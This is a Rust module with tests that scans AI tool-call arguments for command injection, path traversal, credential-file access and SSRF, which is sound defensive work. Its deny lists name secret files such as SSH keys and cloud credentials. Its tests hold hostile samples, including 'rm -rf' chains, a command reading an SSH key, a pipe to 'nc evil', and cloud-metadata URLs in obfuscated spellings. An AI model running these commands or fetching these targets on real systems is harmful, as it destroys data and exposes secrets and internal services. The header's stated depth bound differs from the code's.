//! Argument hazards (command-injection defence): tool-call arguments that would reach a
//! shell, a file system or a network in a dangerous way.
//!
//! A tool's name and its parameters' names say where each argument goes. A parameter is a
//! - **command** sink when its name says so (`command`, `cmd`, `script`, …) or the tool is a
//!   shell (`run_shell`, `exec`, `terminal`, …) and the parameter is not a path;
//! - **path** sink when its name says so (`path`, `file`, `dir`, `cwd`, …);
//! - **URL** sink when its name says so (`url`, `uri`, `endpoint`, `webhook`, …) or the tool
//!   fetches (`fetch`, `http_get`, `browse`, `download`, …), and **host** sink for parameters
//!   named `host`, `hostname`, `ip`, `address`.
//!
//! Only sinks are checked: a URL or a semicolon in a note for a chat tool is text, not a
//! target or a command.
//!
//! Checks: shell chaining, substitution, pipes and redirection in command sinks; `..`
//! traversal (also percent-encoded and with backslashes), NUL bytes and credential or system
//! files in path sinks; loopback, private, link-local, cloud-metadata and unspecified
//! addresses (in every spelling the WHATWG URL parser accepts: decimal, octal, hex,
//! IPv4-mapped IPv6) and non-web schemes in URL and host sinks.
//!
//! Invariants: checking never panics, reads each argument once, and is bounded (depth 32, at
//! most 4,096 strings); a finding names the rule and the argument's JSON Pointer, never the
//! value.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde_json::Value;

use crate::escape_pointer;

/// Where a parameter's value goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
struct Sinks {
    command: bool,
    path: bool,
    url: bool,
    host: bool,
}

/// What a tool does, from its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
struct ToolKind {
    shell: bool,
    fetch: bool,
}

/// One hazard: the rule and the argument's JSON Pointer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hazard {
    /// Rule ID (`hazard.shell.chain`, `hazard.path.traversal`, `hazard.ssrf.metadata`, …).
    pub rule: &'static str,
    /// JSON Pointer of the argument within `arguments`.
    pub path: String,
}

fn words(name: &str) -> Vec<String> {
    // snake_case, kebab-case, camelCase and dotted names all split into lower-case words.
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut prev_lower = false;
    for c in name.chars() {
        if !c.is_alphanumeric() {
            if !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            prev_lower = false;
            continue;
        }
        if c.is_uppercase() && prev_lower && !cur.is_empty() {
            out.push(std::mem::take(&mut cur));
        }
        prev_lower = c.is_lowercase() || c.is_ascii_digit();
        cur.extend(c.to_lowercase());
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

const COMMAND_WORDS: &[&str] = &[
    "command",
    "commands",
    "cmd",
    "cmdline",
    "commandline",
    "shell",
    "bash",
    "sh",
    "zsh",
    "powershell",
    "pwsh",
    "exec",
];

// Not "execute": `execute_sql` and `execute_query` take SQL, not shell commands.
const SHELL_TOOL_WORDS: &[&str] = &[
    "shell",
    "exec",
    "terminal",
    "bash",
    "powershell",
    "cmd",
    "command",
    "subprocess",
    "spawn",
];

const PATH_WORDS: &[&str] = &[
    "path",
    "paths",
    "file",
    "files",
    "filename",
    "filepath",
    "dir",
    "directory",
    "folder",
    "cwd",
    "workdir",
    "dest",
    "destination",
    "src",
    "source",
    "target",
    "location",
];

const HOST_WORDS: &[&str] = &["host", "hostname", "ip", "address", "server", "domain"];

const URL_WORDS: &[&str] = &[
    "url", "urls", "uri", "uris", "href", "link", "endpoint", "webhook", "callback", "redirect",
];

const FETCH_TOOL_WORDS: &[&str] = &[
    "fetch", "http", "https", "request", "browse", "browser", "download", "crawl", "scrape",
    "curl", "wget", "navigate", "url", "webhook", "get", "post", "visit", "open",
];

fn sinks_of(tool: ToolKind, param: &str) -> Sinks {
    let w = words(param);
    let has = |list: &[&str]| w.iter().any(|x| list.contains(&x.as_str()));
    let path = has(PATH_WORDS);
    Sinks {
        command: has(COMMAND_WORDS) || (tool.shell && !path),
        path,
        url: has(URL_WORDS) || tool.fetch,
        host: has(HOST_WORDS),
    }
}

/// What the tool does, from its name.
fn tool_kind(tool: Option<&str>) -> ToolKind {
    let Some(name) = tool else {
        return ToolKind::default();
    };
    let w = words(name);
    let has = |list: &[&str]| w.iter().any(|x| list.contains(&x.as_str()));
    // `get_weather` is not a fetcher, `http_get` and `fetch_url` are: "get", "post" and
    // "open" count only next to a web word.
    let web = w.iter().any(|x| {
        matches!(
            x.as_str(),
            "http" | "https" | "url" | "web" | "page" | "webpage" | "site" | "website" | "link"
        )
    });
    let fetch = w.iter().any(|x| {
        FETCH_TOOL_WORDS.contains(&x.as_str())
            && (!matches!(x.as_str(), "get" | "post" | "open" | "request") || web)
    });
    ToolKind {
        shell: has(SHELL_TOOL_WORDS),
        fetch,
    }
}

/// The hazards in `arguments` of a call to the tool named `tool` (the upstream's own name,
/// when known).
#[must_use]
pub fn scan(tool: Option<&str>, arguments: &Value) -> Vec<Hazard> {
    let kind = tool_kind(tool);
    let mut out = Vec::new();
    let mut budget = Budget {
        strings: MAX_STRINGS,
        exhausted: false,
    };
    if let Value::Object(map) = arguments {
        for (k, v) in map {
            let path = format!("/{}", escape_pointer(k));
            walk(v, sinks_of(kind, k), &path, 0, &mut budget, &mut out);
        }
    } else {
        let sinks = Sinks {
            url: kind.fetch,
            command: kind.shell,
            ..Sinks::default()
        };
        walk(arguments, sinks, "", 0, &mut budget, &mut out);
    }
    if budget.exhausted {
        // Arguments past the bound were not checked: say so, so the policy can refuse
        // (filler strings in front of a command must not hide it).
        push(&mut out, "hazard.unchecked", "");
    }
    out
}

/// Most strings checked in one call's arguments.
const MAX_STRINGS: usize = 4096;

/// Deeper than any JSON the wire parser accepts (128).
const MAX_DEPTH: usize = 160;

/// What is left to check, and whether anything was left unchecked.
struct Budget {
    strings: usize,
    exhausted: bool,
}

fn walk(
    v: &Value,
    sinks: Sinks,
    path: &str,
    depth: usize,
    budget: &mut Budget,
    out: &mut Vec<Hazard>,
) {
    if depth > MAX_DEPTH || budget.strings == 0 {
        budget.exhausted = true;
        return;
    }
    match v {
        Value::String(s) => {
            // Not zero: checked above.
            budget.strings = budget.strings.saturating_sub(1);
            check(s, sinks, path, out);
        }
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                walk(
                    item,
                    sinks,
                    &format!("{path}/{i}"),
                    depth.saturating_add(1),
                    budget,
                    out,
                );
            }
        }
        Value::Object(map) => {
            for (k, item) in map {
                // A nested object's own keys name their sinks; an outer sink still applies.
                let inner = sinks_of(ToolKind::default(), k);
                let merged = Sinks {
                    command: sinks.command || inner.command,
                    path: sinks.path || inner.path,
                    url: sinks.url || inner.url,
                    host: sinks.host || inner.host,
                };
                walk(
                    item,
                    merged,
                    &format!("{path}/{}", escape_pointer(k)),
                    depth.saturating_add(1),
                    budget,
                    out,
                );
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn push(out: &mut Vec<Hazard>, rule: &'static str, path: &str) {
    if !out.iter().any(|h| h.rule == rule && h.path == path) {
        out.push(Hazard {
            rule,
            path: path.to_owned(),
        });
    }
}

fn check(s: &str, sinks: Sinks, path: &str, out: &mut Vec<Hazard>) {
    if sinks.command {
        shell(s, path, out);
    }
    if sinks.path {
        file_path(s, path, out);
    }
    let t = s.trim();
    if sinks.url {
        // Every word with a scheme is a URL (`http:169.254.169.254/` parses too), and a
        // value with none is read as the host a fetcher would assume.
        url_target(t, path, out);
        let has_scheme = t
            .split_once(':')
            .is_some_and(|(scheme, _)| is_scheme(scheme));
        if !has_scheme && !t.is_empty() && !t.contains(char::is_whitespace) {
            bare_host(t.trim_start_matches('/'), path, out);
        }
    } else if sinks.host {
        if t.contains("://") {
            url_target(t, path, out);
        } else {
            bare_host(t, path, out);
        }
    }
}

// ---------------------------------------------------------------- shell

fn shell(s: &str, path: &str, out: &mut Vec<Hazard>) {
    let b = s.as_bytes();
    if s.contains("$(") || s.contains('`') || s.contains("${") || s.contains("<(") {
        push(out, "hazard.shell.substitution", path);
    }
    let mut chain = s.contains(';') || s.contains("&&") || s.contains("||") || s.contains('\n');
    let mut pipe = false;
    let mut redirect = false;
    for (i, &c) in b.iter().enumerate() {
        let prev = i.checked_sub(1).and_then(|j| b.get(j)).copied();
        let next = i.checked_add(1).and_then(|j| b.get(j)).copied();
        match c {
            b'&' if prev != Some(b'&') && next != Some(b'&') && prev != Some(b'>') => {
                chain = true;
            }
            b'|' if prev != Some(b'|') && next != Some(b'|') => pipe = true,
            b'>' | b'<' if prev != Some(b'$') => redirect = true,
            _ => {}
        }
    }
    if chain {
        push(out, "hazard.shell.chain", path);
    }
    if pipe {
        push(out, "hazard.shell.pipe", path);
    }
    if redirect {
        push(out, "hazard.shell.redirect", path);
    }
}

// ---------------------------------------------------------------- paths

/// Files whose reading leaks credentials or whose writing takes over a system.
const SENSITIVE_ABSOLUTE: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/ssh/",
    "/proc/self/",
    "/proc/1/",
    "/var/run/docker.sock",
    "/run/docker.sock",
];

/// Credential files, matched at the start of any path segment (`~/.ssh/id_rsa`,
/// `home/u/.aws/credentials`, `.netrc`).
const SENSITIVE_SEGMENTS: &[&str] = &[
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
    ".aws/",
    ".azure/",
    ".config/gcloud",
    ".kube/config",
    ".docker/config.json",
    ".git-credentials",
    ".netrc",
    ".npmrc",
    ".pypirc",
    ".pgpass",
    ".bash_history",
    ".zsh_history",
    ".gnupg/",
    "claude_desktop_config.json",
    ".cursor/mcp.json",
    "mcp.json",
];

fn percent_decoded(s: &str) -> String {
    let mut cur = s.to_owned();
    // Twice: `%252e%252e` is `..` to a server that decodes once more than the gateway.
    for _ in 0..2 {
        let next = percent_encoding::percent_decode_str(&cur)
            .decode_utf8_lossy()
            .into_owned();
        if next == cur {
            break;
        }
        cur = next;
    }
    cur
}

fn file_path(s: &str, path: &str, out: &mut Vec<Hazard>) {
    let decoded = percent_decoded(s).replace('\\', "/");
    if decoded.contains('\0') {
        push(out, "hazard.path.nul", path);
    }
    let p = decoded.strip_prefix("file://").unwrap_or(&decoded);
    if p.split('/').any(|seg| seg.trim() == "..") {
        push(out, "hazard.path.traversal", path);
    }
    let lower = p.to_lowercase();
    let env_file = lower
        .rsplit('/')
        .next()
        .is_some_and(|last| last == ".env" || last.starts_with(".env."));
    let at_segment = |x: &str| {
        lower.match_indices(x).any(|(i, _)| {
            i.checked_sub(1)
                .is_none_or(|j| matches!(lower.as_bytes().get(j), Some(b'/' | b'~')))
        })
    };
    if env_file
        || SENSITIVE_ABSOLUTE.iter().any(|x| lower.contains(x))
        || SENSITIVE_SEGMENTS.iter().any(|x| at_segment(x))
    {
        push(out, "hazard.path.sensitive", path);
    }
}

// ---------------------------------------------------------------- network targets

/// Schemes a fetching tool should never be pointed at.
const BAD_SCHEMES: &[&str] = &[
    "file", "gopher", "dict", "ldap", "ldaps", "jar", "netdoc", "tftp", "php", "expect", "phar",
    "smb", "sftp",
];

fn url_target(s: &str, path: &str, out: &mut Vec<Hazard>) {
    // The string may hold a URL among other words; check each absolute URL in it.
    for word in s.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>')) {
        let Some(colon) = word.find(':') else {
            continue;
        };
        let scheme = word.get(..colon).unwrap_or("").to_ascii_lowercase();
        if !is_scheme(&scheme) {
            continue;
        }
        if BAD_SCHEMES.contains(&scheme.as_str()) {
            push(out, "hazard.ssrf.scheme", path);
            continue;
        }
        let Ok(url) = url::Url::parse(word) else {
            continue;
        };
        match url.host() {
            Some(url::Host::Ipv4(ip)) => ip_target(IpAddr::V4(ip), path, out),
            Some(url::Host::Ipv6(ip)) => ip_target(IpAddr::V6(ip), path, out),
            Some(url::Host::Domain(d)) => domain_target(d, path, out),
            None => {}
        }
    }
}

fn is_scheme_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.')
}

/// Whether `s` is a URI scheme (RFC 3986: a letter, then letters, digits, `+`, `-`, `.`).
fn is_scheme(s: &str) -> bool {
    s.as_bytes().first().is_some_and(u8::is_ascii_alphabetic) && s.bytes().all(is_scheme_byte)
}

fn bare_host(s: &str, path: &str, out: &mut Vec<Hazard>) {
    let host = s
        .trim_start_matches('[')
        .split(']')
        .next()
        .unwrap_or(s)
        .to_owned();
    if let Ok(ip) = host.parse::<IpAddr>() {
        return ip_target(ip, path, out);
    }
    // `host:port`, and every IPv4 spelling the URL parser accepts.
    if let Ok(url) = url::Url::parse(&format!("http://{s}/")) {
        match url.host() {
            Some(url::Host::Ipv4(ip)) => ip_target(IpAddr::V4(ip), path, out),
            Some(url::Host::Ipv6(ip)) => ip_target(IpAddr::V6(ip), path, out),
            Some(url::Host::Domain(d)) => domain_target(d, path, out),
            None => {}
        }
    }
}

fn domain_target(d: &str, path: &str, out: &mut Vec<Hazard>) {
    let d = d.trim_end_matches('.').to_ascii_lowercase();
    // A non-web scheme (`redis://2130706433`) leaves a numeric host unparsed: read it as
    // the web parser would.
    if let Ok(u) = url::Url::parse(&format!("http://{d}/"))
        && let Some(url::Host::Ipv4(ip)) = u.host()
    {
        return ip_target(IpAddr::V4(ip), path, out);
    }
    if d == "localhost" || d.ends_with(".localhost") {
        push(out, "hazard.ssrf.loopback", path);
    } else if matches!(
        d.as_str(),
        "metadata.google.internal" | "metadata" | "instance-data" | "metadata.azure.com"
    ) || d.ends_with(".internal")
    {
        push(out, "hazard.ssrf.metadata", path);
    } else if let Some(ip) = embedded_ip(&d) {
        // `127.0.0.1.nip.io` and kin resolve to the address they spell.
        let mut inner = Vec::new();
        ip_target(IpAddr::V4(ip), path, &mut inner);
        if !inner.is_empty() {
            push(out, "hazard.ssrf.rebinding", path);
        }
    }
}

/// A dotted or dashed IPv4 address spelled inside a host name.
fn embedded_ip(d: &str) -> Option<Ipv4Addr> {
    let labels: Vec<&str> = d.split(['.', '-']).collect();
    labels.windows(4).find_map(|w| {
        let octets: Option<Vec<u8>> = w.iter().map(|x| x.parse::<u8>().ok()).collect();
        match octets.as_deref() {
            Some([a, b, c, e]) => Some(Ipv4Addr::new(*a, *b, *c, *e)),
            _ => None,
        }
    })
}

fn ip_target(ip: IpAddr, path: &str, out: &mut Vec<Hazard>) {
    let ip = match ip {
        IpAddr::V6(v6) => match v6.to_ipv4_mapped() {
            Some(v4) => IpAddr::V4(v4),
            None => IpAddr::V6(v6),
        },
        v4 @ IpAddr::V4(_) => v4,
    };
    let rule = match ip {
        IpAddr::V4(v4) => v4_rule(v4),
        IpAddr::V6(v6) => v6_rule(v6),
    };
    if let Some(rule) = rule {
        push(out, rule, path);
    }
}

fn v4_rule(ip: Ipv4Addr) -> Option<&'static str> {
    let [a, b, ..] = ip.octets();
    if ip == Ipv4Addr::new(169, 254, 169, 254)
        || ip == Ipv4Addr::new(169, 254, 170, 2)
        || ip == Ipv4Addr::new(100, 100, 100, 200)
    {
        Some("hazard.ssrf.metadata")
    } else if ip.is_loopback() || ip.is_unspecified() || a == 0 {
        Some("hazard.ssrf.loopback")
    } else if ip.is_private()
        || ip.is_link_local()
        || (a == 100 && (64..128).contains(&b))
        || ip.is_broadcast()
        || (a == 198 && (b == 18 || b == 19))
    {
        Some("hazard.ssrf.private")
    } else {
        None
    }
}

fn v6_rule(ip: Ipv6Addr) -> Option<&'static str> {
    let seg = ip.segments();
    let first = seg.first().copied().unwrap_or(0);
    if ip == Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x0254) {
        Some("hazard.ssrf.metadata")
    } else if ip.is_loopback() || ip.is_unspecified() {
        Some("hazard.ssrf.loopback")
    } else if (first & 0xfe00) == 0xfc00 || (first & 0xffc0) == 0xfe80 {
        Some("hazard.ssrf.private")
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn rules(def: Value, args: Value) -> Vec<&'static str> {
        scan(def["name"].as_str(), &args)
            .into_iter()
            .map(|h| h.rule)
            .collect()
    }

    #[test]
    fn shell_metacharacters_in_command_sinks() {
        let tool = json!({"name": "run_shell"});
        assert!(rules(tool.clone(), json!({"command": "ls -la /tmp"})).is_empty());
        assert_eq!(
            rules(tool.clone(), json!({"command": "ls; rm -rf ~"})),
            ["hazard.shell.chain"]
        );
        assert_eq!(
            rules(
                tool.clone(),
                json!({"command": "echo $(cat ~/.ssh/id_rsa)"})
            ),
            ["hazard.shell.substitution"]
        );
        assert_eq!(
            rules(tool.clone(), json!({"input": "a | nc evil 80"})),
            ["hazard.shell.pipe"]
        );
        assert_eq!(
            rules(tool.clone(), json!({"args": ["x", "y && curl z"]})),
            ["hazard.shell.chain"]
        );
        // SQL is not a shell command, and a script parameter is not a shell.
        assert!(
            rules(
                json!({"name": "execute_sql"}),
                json!({"query": "select 1; select a || b"})
            )
            .is_empty()
        );
        assert!(rules(json!({"name": "evaluate"}), json!({"script": "a && b"})).is_empty());
        // The same text in a note of a non-shell tool is not a shell argument.
        assert!(rules(json!({"name": "save_note"}), json!({"text": "a; b | c"})).is_empty());
        // A parameter named for commands is a command sink in any tool.
        assert_eq!(
            rules(
                json!({"name": "deploy"}),
                json!({"cmd": "make && sudo make install"})
            ),
            ["hazard.shell.chain"]
        );
    }

    #[test]
    fn traversal_and_sensitive_files_in_path_sinks() {
        let tool = json!({"name": "read_file"});
        assert!(rules(tool.clone(), json!({"path": "/srv/data/report.txt"})).is_empty());
        assert_eq!(
            rules(tool.clone(), json!({"path": "../../etc/hosts"})),
            ["hazard.path.traversal"]
        );
        assert_eq!(
            rules(tool.clone(), json!({"path": "docs/%2e%2e/%2e%2e/x"})),
            ["hazard.path.traversal"]
        );
        assert_eq!(
            rules(
                tool.clone(),
                json!({"filePath": "..\\..\\windows\\win.ini"})
            ),
            ["hazard.path.traversal"]
        );
        assert_eq!(
            rules(tool.clone(), json!({"path": "/home/u/.ssh/id_rsa"})),
            ["hazard.path.sensitive"]
        );
        assert_eq!(
            rules(tool.clone(), json!({"file": "app/.env"})),
            ["hazard.path.sensitive"]
        );
        for p in [
            ".aws/credentials",
            ".netrc",
            "u/.kube/config",
            "~/.ssh/id_ed25519",
        ] {
            assert_eq!(
                rules(tool.clone(), json!({"path": p})),
                ["hazard.path.sensitive"],
                "{p}"
            );
        }
        assert!(rules(tool.clone(), json!({"path": "/root/project/readme.md"})).is_empty());
        assert_eq!(
            rules(tool, json!({"path": "a.txt\u{0}.png"})),
            ["hazard.path.nul"]
        );
    }

    #[test]
    fn internal_network_targets_in_any_spelling() {
        let tool = json!({"name": "fetch"});
        assert!(rules(tool.clone(), json!({"url": "https://example.com/a?b=c"})).is_empty());
        for (url, rule) in [
            (
                "http://169.254.169.254/latest/meta-data/",
                "hazard.ssrf.metadata",
            ),
            (
                "http://metadata.google.internal/computeMetadata/v1/",
                "hazard.ssrf.metadata",
            ),
            ("http://127.0.0.1:6379/", "hazard.ssrf.loopback"),
            ("http://2130706433/", "hazard.ssrf.loopback"),
            ("http://0x7f.1/", "hazard.ssrf.loopback"),
            ("http://0177.0.0.1/", "hazard.ssrf.loopback"),
            ("http://[::ffff:127.0.0.1]/", "hazard.ssrf.loopback"),
            ("http://[::1]:8080/", "hazard.ssrf.loopback"),
            ("http://localhost/admin", "hazard.ssrf.loopback"),
            ("http://0.0.0.0:9200/", "hazard.ssrf.loopback"),
            ("https://10.0.0.5/", "hazard.ssrf.private"),
            ("http://192.168.1.1/", "hazard.ssrf.private"),
            ("http://[fd12::1]/", "hazard.ssrf.private"),
            ("http://127.0.0.1.nip.io/", "hazard.ssrf.rebinding"),
            ("file:///etc/passwd", "hazard.ssrf.scheme"),
            ("gopher://x:70/_SET", "hazard.ssrf.scheme"),
        ] {
            assert_eq!(rules(tool.clone(), json!({"url": url})), [rule], "{url}");
        }
        // A fetching tool's arguments are targets whatever they are called; another tool's
        // are targets only under a URL-like name.
        assert_eq!(
            rules(
                tool.clone(),
                json!({"q": "see http://169.254.169.254/ now"})
            ),
            ["hazard.ssrf.metadata"]
        );
        assert!(
            rules(
                json!({"name": "post_message"}),
                json!({"text": "our box is http://10.0.0.5/"})
            )
            .is_empty()
        );
        assert_eq!(
            rules(
                json!({"name": "create_hook"}),
                json!({"webhookUrl": "http://127.0.0.1:2375/"})
            ),
            ["hazard.ssrf.loopback"]
        );
        assert!(
            rules(
                json!({"name": "get_weather"}),
                json!({"q": "http://127.0.0.1/"})
            )
            .is_empty()
        );
        // Spellings a lax parser accepts, scheme-less targets, other schemes' numeric hosts.
        for url in [
            "http:169.254.169.254/latest/meta-data/",
            "169.254.169.254/latest/meta-data",
            "//127.0.0.1/admin",
            "redis://2130706433:6379",
            "postgres://0x7f.1/db",
        ] {
            assert!(
                !rules(json!({"name": "fetch"}), json!({"url": url})).is_empty(),
                "{url}"
            );
        }
        assert_eq!(
            rules(
                json!({"name": "http_get"}),
                json!({"q": "http://127.0.0.1/"})
            ),
            ["hazard.ssrf.loopback"]
        );
        assert_eq!(
            rules(tool, json!({"host": "10.1.2.3:22"})),
            ["hazard.ssrf.private"]
        );
    }

    #[test]
    fn bounded_on_any_input() {
        let mut v = json!("$(x)");
        for _ in 0..200 {
            v = json!({"command": v});
        }
        assert!(scan(None, &v).len() <= 1);
        let wide = Value::Array(vec![json!("http://127.0.0.1/"); 100_000]);
        let found = scan(Some("fetch"), &json!({"url": wide}));
        assert!(found.len() <= 4097);
        // Past the bound, what was not checked is said to be unchecked.
        assert!(found.iter().any(|h| h.rule == "hazard.unchecked"));
        let mut filler: serde_json::Map<String, Value> = (0..5000)
            .map(|i| (format!("f{i:05}"), json!("x")))
            .collect();
        filler.insert("zz_command".into(), json!("ls; rm -rf /"));
        let found = scan(Some("run_shell"), &Value::Object(filler));
        assert!(
            found.iter().any(|h| h.rule == "hazard.unchecked"),
            "{found:?}"
        );
        assert!(words("getHTTPUrlPath").contains(&"path".to_owned()));
    }
}
